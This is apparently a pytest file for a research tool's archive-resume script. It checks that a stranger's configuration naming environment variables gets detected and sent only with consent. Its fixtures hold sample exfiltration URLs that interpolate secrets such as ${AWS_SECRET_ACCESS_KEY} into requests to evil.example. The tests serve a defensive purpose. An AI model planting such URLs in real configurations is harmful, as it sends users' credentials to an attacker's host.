"""A stranger's configuration may name variables of the environment: they are listed, and sent with consent alone."""

import io
import sys

import pytest
import yaml

from ranktrial.archive import layout
from ranktrial.common.errors import UserError
from ranktrial.experiment.model_checks import sent_variables
from scripts.archive import resume as module
from tests.support import crafted
from tests.support.crafted import CONFIG, record, resealed, small
from tests.support.one_line import refused

HOSTILE = "https://evil.example/w.qrels?t=${AWS_SECRET_ACCESS_KEY}"
CHECKSUM = "0" * 64
ENDPOINT = {"type": "bi-encoder", "weights": "m", "endpoint": {"url": "https://evil.example/v1", "key": "MY_TOKEN"}}


def test_all_that_a_configuration_sends_is_found():
    config = {
        "datasets": {
            "a": {"location": "https://${USER_OF}:${WORD}@evil.example:8443/${PART}/x.zip?t=${TOKEN}"},
            "b": {"location": "data/x", "judge": {"url": "https://judge.example/v1", "model": "m"}},
            "c": {"location": ["https://plain.example/x", "https://listed.example/${LISTED}"]},
        },
        "models": {
            "named": ENDPOINT,
            "open": {"endpoint": {"url": "http://127.0.0.1:8000/v1"}},
            "tei": {"endpoint": {"url": "https://evil.example", "protocol": "tei"}},
        },
        "systems": {"es": {"type": "bm25", "engine": "elasticsearch", "url": "https://search.example"}},
    }
    found = list(sent_variables(config))
    assert [(one.variable, one.host, one.fetching) for one in found] == [
        *((name, "evil.example:8443", True) for name in ("USER_OF", "WORD", "PART", "TOKEN")),
        ("OPENAI_API_KEY", "judge.example", False),
        ("LISTED", "listed.example", True),
        ("MY_TOKEN", "evil.example", False),
        *((f"ELASTICSEARCH_{name}", "search.example", False) for name in ("API_KEY", "USERNAME", "PASSWORD")),
    ]
    assert str(found[0]) == "USER_OF to evil.example:8443 (datasets.a.location)"


@pytest.fixture
def archive(tmp_path, monkeypatch):
    """A clone as working folder, and an archive whose configuration a stranger changed."""
    monkeypatch.chdir(crafted.clone(tmp_path / "clone"))

    def made(location=None, **sections):
        files = dict(small().files)
        name = layout.configuration_name(record(files, layout.STATE)["config_files"][-1])
        config = {**CONFIG, **sections}
        if location:
            weather = {**CONFIG["datasets"]["weather"], "location": location, "sha256": CHECKSUM}
            config["datasets"] = {"weather": weather}
        files[name] = yaml.safe_dump(config).encode()
        return resealed(files, tmp_path / "a.zip")

    return made


def resume(monkeypatch, archive, *options):
    """Take an archive over; gives whether its data would have been fetched."""
    reached = []
    monkeypatch.setattr(module, "fill", lambda *_: reached.append(True))
    monkeypatch.setattr(sys, "argv", ["resume", "--archive", str(archive), *options])
    module.main()
    return bool(reached)


def test_without_consent_nothing_is_sent_and_nothing_taken_over(archive, monkeypatch, tmp_path, capsys):
    before, stranger = crafted.listing(tmp_path / "clone"), archive(HOSTILE, models={"far": ENDPOINT})
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    with refused("AWS_SECRET_ACCESS_KEY to evil.example (datasets.weather.location)", "give SEND=1"):
        resume(monkeypatch, stranger, "--fill")
    assert crafted.listing(tmp_path / "clone") == before
    assert resume(monkeypatch, stranger, "--fill", "--send-variables")
    said = capsys.readouterr().err
    assert "its jobs send environment variables, if they are set: AWS_SECRET_ACCESS_KEY to evil.example" in said
    assert "MY_TOKEN to evil.example (models.far.endpoint.url)" in said


class Terminal(io.StringIO):
    def isatty(self):
        return True


@pytest.mark.parametrize("answer", ["no", "", "y", "yes"])
def test_a_terminal_is_asked(monkeypatch, answer, capsys):
    sends = list(sent_variables({"datasets": {"w": {"location": HOSTILE}}}))
    monkeypatch.setattr(sys, "stdin", Terminal(f"{answer}\n"))
    if answer == "yes":
        module.consent(sends, False)
    else:
        with pytest.raises(UserError, match="nothing was sent, and nothing was taken over"):
            module.consent(sends, False)
    assert "WARNING: the archive's configuration sends these environment" in capsys.readouterr().out


def test_only_what_fetching_sends_is_asked_for(monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    module.consent(list(sent_variables({"models": {"far": ENDPOINT}})), False)
    module.consent([], False)
